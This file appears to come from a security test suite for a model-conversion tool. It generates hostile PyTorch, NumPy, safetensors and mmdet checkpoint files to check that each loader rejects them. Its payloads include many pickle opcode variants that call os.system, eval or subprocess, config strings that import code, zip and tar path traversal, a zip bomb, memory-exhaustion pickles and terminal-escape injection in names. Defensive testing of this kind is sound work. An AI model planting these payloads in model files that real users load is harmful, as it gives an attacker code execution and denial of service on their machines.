"""Checkpoints: every opcode by which a pickle calls something, in every container, for every adapter that reads them."""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from hostile.case import CANARY, MODEL, RUNS, Case, convert, thinned
from hostile.pickles import (
    SPARSE,
    call,
    colliding_keys,
    integer,
    large_storage,
    legacy,
    model_with,
    name,
    sparse,
    sparse_tensor,
    text,
    zipped,
)  # fmt: skip

YOLO, TIMM, MMDET = ("ultralytics",), ("timm",), ("mmdet",)

SYSTEM = call("os.system", text(RUNS))
PAYLOADS = {
    "reduce": SYSTEM,
    "posix": call("posix.system", text(RUNS)),
    "eval": call("builtins.eval", text(f"__import__('os').system('{RUNS}')")),
    "exec": call("builtins.exec", text(f"import os; os.system('{RUNS}')")),
    "python2-names": call("__builtin__.eval", text(f"__import__('os').system('{RUNS}')")),
    "newobj": name("subprocess.Popen") + b"((" + text("touch") + text("PWNED") + b"lt\x81",
    "newobj-ex": text("subprocess") + text("Popen") + b"\x93)}" + text("args") + text(RUNS) + b"s\x92",
    "inst": b"(" + text(RUNS) + b"ios\nsystem\n",
    "obj": b"(" + name("os.system") + text(RUNS) + b"o",
    "stack-global": text("os") + text("system") + b"\x93(" + text(RUNS) + b"tR",
    "dotted-attribute": text("torch") + text("serialization.os.system") + b"\x93(" + text(RUNS) + b"tR",
    "getattr-chain": call("builtins.getattr", name("torch.os"), text("system")) + b"(" + text(RUNS) + b"tR",
    "extension-registry": b"\x82\x01(" + text(RUNS) + b"tR",
    "partial": call("functools.partial", name("os.system"), text(RUNS)) + b")R",
    "map": call("builtins.map", name("os.system"), b"(" + text(RUNS) + b"l"),
    "defaultdict-factory": call("collections.defaultdict", name("os.getcwd")) + text("x") + b"Ns",
    "inner-pickle": call("_pickle.loads", b"C" + bytes([len(SYSTEM) + 1]) + SYSTEM + b"."),
    "torch-load": call("torch.serialization.load", text("evil.pt")),
    "storage-from-bytes": call("torch.storage._load_from_bytes", b"C" + bytes([len(SYSTEM) + 1]) + SYSTEM + b"."),
    "hub": call("torch.hub.load", text("nobody/nothing"), text("model")),
    "import-module": call("importlib.import_module", text("evil_module")),
    "run-module": call("runpy.run_path", text("evil_module.py")),
    "setattr": call("builtins.setattr", name("torch.nn.Module"), text("forward"), name("os.system")),
    "build-on-a-class": name("torch.nn.modules.conv.Conv2d") + b"}" + text("forward") + name("os.system") + b"sb",
    "setstate": name("torch.fx.graph_module.reduce_graph_module") + b"(}" + text("_code") + text(f"import os; os.system('{RUNS}')") + b"s" + text("") + b"tR",
    "object-array": call("numpy.dtype", text("O"), integer(0), integer(1)),
    "jit": call("torch.jit._serialization.load", text("evil.pt")),
}  # fmt: skip


def _saved(payload: bytes, write: Callable[[Path, bytes], None] = zipped) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / "evil_module.py").write_text(f"import os\nos.system({RUNS!r})\n")
        write(folder / "evil.pt", model_with(payload))

    return make


def _tar(folder: Path) -> None:
    with tarfile.open(folder / "evil.pt", "w") as archive:
        data = model_with(SYSTEM)
        for member in ("pickle", "../../PWNED"):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


def _escaping_entries(folder: Path) -> None:
    zipped(folder / "evil.pt", model_with(b"N"))
    with zipfile.ZipFile(folder / "evil.pt", "a") as archive:
        archive.writestr("../../PWNED", b"x")
        archive.writestr("archive/code/PWNED.py", b"import os")


def _bomb(folder: Path) -> None:
    """Megabytes in the file, gigabytes behind it."""
    with (
        zipfile.ZipFile(folder / "evil.pt", "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("archive/data.pkl", "w", force_zip64=True) as entry,
    ):
        for _ in range(1024):
            entry.write(bytes(1 << 20))


def _lying_size(folder: Path) -> None:
    """An entry whose table of contents claims 2 GB."""
    zipped(folder / "evil.pt", model_with(b"N"))
    raw = bytearray((folder / "evil.pt").read_bytes())
    place = raw.index(b"PK\x01\x02")
    raw[place + 20 : place + 28] = struct.pack("<II", 2**31 - 1, 2**31 - 1)
    (folder / "evil.pt").write_bytes(raw)


def _safetensors(header: object, data: bytes = b"") -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        raw = header if isinstance(header, bytes) else json.dumps(header).encode()
        (folder / "evil.safetensors").write_bytes(struct.pack("<Q", len(raw)) + raw + data)

    return make


def _npz(folder: Path) -> None:
    import numpy as np

    class Runs:
        def __reduce__(self) -> tuple[object, ...]:
            import os

            return os.system, (RUNS,)

    np.savez(folder / "evil.npz", weight=np.array([Runs()], dtype=object))


CONFIGS = {
    "type": f"model = dict(type='subprocess.Popen', args=['touch', '{CANARY}'])",
    "nested-type": f"model = dict(type='RetinaNet', backbone=dict(type='os.system', command='{RUNS}'))",
    "import": "custom_imports = dict(imports=['evil_module'])\nmodel = dict(type='RetinaNet')",
    "scope": "default_scope = 'evil_module'\nmodel = dict(type='RetinaNet', _scope_='evil_module')",
    "base": "_base_ = './evil_module.py'\nmodel = dict(type='RetinaNet')",
    "weights": "model = dict(type='RetinaNet', init_cfg=dict(type='Pretrained', checkpoint='evil_weights.pth'))",
    "nms-type": f"model = dict(type='RetinaNet', test_cfg=dict(nms=dict(type=\"__import__('os').system('{RUNS}')\")))",
    "expression": f"model = dict(type=__import__('os').system('{RUNS}'))",
}


def _mmdet_config(text: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / "evil_module.py").write_text(f"import os\nos.system({RUNS!r})\n")
        zipped(folder / "evil_weights.pth", model_with(SYSTEM))
        zipped(folder / "evil.pth", pickle.dumps({"meta": {"cfg": text}, "state_dict": {}}, protocol=2))

    return make


def _timm_folder(config: dict[str, object]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / "model").mkdir()
        (folder / "model" / "config.json").write_text(json.dumps(config))
        zipped(folder / "model" / "pytorch_model.bin", model_with(SYSTEM))

    return make


EVIL = convert("yolov5", "evil.pt")
F32 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
CASES = [
    *thinned([Case(f"pickle-{key}", _saved(payload), EVIL, (MODEL,), needs=YOLO) for key, payload in PAYLOADS.items()]),
    *(
        Case(f"legacy-{key}", _saved(PAYLOADS[key], legacy), EVIL, (MODEL,), needs=YOLO, everyday=key == "reduce")
        for key in ("reduce", "inst", "obj", "newobj", "inner-pickle")
    ),
    *(
        Case(f"reduce-for-{adapter}", _saved(SYSTEM), convert(adapter, "evil.pt"), needs=needs)
        for adapter, needs in (("yolo", YOLO), ("timm", TIMM), ("swin", TIMM), ("torch", ("torch",)))
    ),
    Case("reduce-for-weights", _saved(SYSTEM), convert("timm", "resnet10t", "--weights", "evil.pt"), (MODEL,), needs=TIMM),
    Case("bare-pickle", lambda folder: (folder / "evil.pt").write_bytes(model_with(SYSTEM)), EVIL, (MODEL,), needs=YOLO),
    Case("tar", _tar, EVIL, (MODEL,), needs=YOLO),
    Case("zip-entries-that-leave", _escaping_entries, EVIL, (MODEL,), needs=YOLO),
    Case("zip-bomb", _bomb, EVIL, (MODEL,), needs=YOLO, megabytes=300),
    Case("zip-with-a-lying-size", _lying_size, EVIL, (MODEL,), needs=YOLO, megabytes=300),
    Case("legacy-sparse", _saved(b"N", sparse), EVIL, (MODEL,), needs=YOLO, megabytes=300, seconds=10),
    Case("legacy-sparse-string", _saved(b"\x8d" + struct.pack("<Q", 4 << 30), sparse), EVIL, (MODEL,), needs=YOLO, megabytes=300, seconds=10),
    Case("legacy-sparse-tensor", _saved(large_storage(SPARSE), sparse_tensor), EVIL, (MODEL,), says="Not enough memory", needs=YOLO, megabytes=300, seconds=10),
    Case("colliding-keys", _saved(colliding_keys(60_000)), EVIL, (MODEL,), needs=YOLO, seconds=10),
    Case("colliding-keys-legacy", _saved(colliding_keys(60_000), legacy), EVIL, (MODEL,), needs=YOLO, seconds=10),
    Case("memo-index", _saved(b"Nr\xff\xff\xff\xff"), EVIL, (MODEL,), needs=YOLO, megabytes=300),
    Case("long-integer", _saved(b"I" + b"9" * 2_000_000 + b"\n"), EVIL, (MODEL,), needs=YOLO, seconds=10),
    Case("nested-tuples", _saved(b")" + b"\x85" * 500_000), EVIL, (MODEL,), needs=YOLO),
    Case("nested-key", _saved(b"})" + b"\x85" * 200_000 + b"Ns"), EVIL, (MODEL,), needs=YOLO),
    Case("escapes-in-a-name", _saved(call("\x1b]0;owned\x07\x1b[2J\x9b31m.system", text(RUNS))), EVIL, (MODEL,), needs=YOLO),
    Case("escapes-in-an-opcode-text", _saved(b"I\x1b]0;owned\x07\n"), EVIL, (MODEL,), needs=YOLO),
    Case("markup-in-a-name", _saved(call("[bold red]os[/].<script>system", text(RUNS))), EVIL, (MODEL,), says="[bold red]os[/].<script>system", needs=YOLO),
    Case("safetensors-huge-header", _safetensors(b"{" + b" " * 100), convert("timm", "resnet10t", "--weights", "evil.safetensors"), needs=TIMM),
    Case("safetensors-beyond-the-file", _safetensors({"a": {**F32, "data_offsets": [0, 1 << 40]}}), convert("timm", "resnet10t", "--weights", "evil.safetensors"), needs=TIMM, megabytes=300),
    Case("safetensors-escapes", _safetensors({"\x1b[2Ja\x9b": F32, "__metadata__": {"x": "\x1b]0;owned\x07"}}, bytes(8)), convert("timm", "resnet10t", "--weights", "evil.safetensors"), needs=TIMM),
    *(
        Case(
            f"mmdet-config-{key}-for-{adapter}", _mmdet_config(text), convert(adapter, "evil.pth"), needs=MMDET,
            everyday=adapter == "mmdet" and key in ("type", "import", "expression"),
        )
        for key, text in CONFIGS.items()
        for adapter in ("mmdet", "detr")
    ),
    Case("npz-of-objects", _npz, convert("yolov5", "evil.npz"), needs=YOLO),
    Case("npz-as-weights", _npz, convert("timm", "resnet10t", "--weights", "evil.npz"), needs=TIMM),
    Case("timm-folder-with-a-pickle", _timm_folder({"architecture": "resnet10t"}), convert("timm", "model"), needs=TIMM),
    Case("timm-folder-names-code", _timm_folder({"architecture": "os.system", "model_args": {"cmd": RUNS}}), convert("timm", "model"), needs=TIMM),
    Case("timm-folder-downloads", _timm_folder({"architecture": "hf-hub:nobody/nothing", "pretrained_cfg": {"url": "https://nowhere.invalid/x"}}), convert("timm", "model"), needs=TIMM),
    Case("timm-folder-escapes", _timm_folder({"architecture": "\x1b]0;owned\x07\x1b[2J"}), convert("timm", "model"), needs=TIMM),
]  # fmt: skip
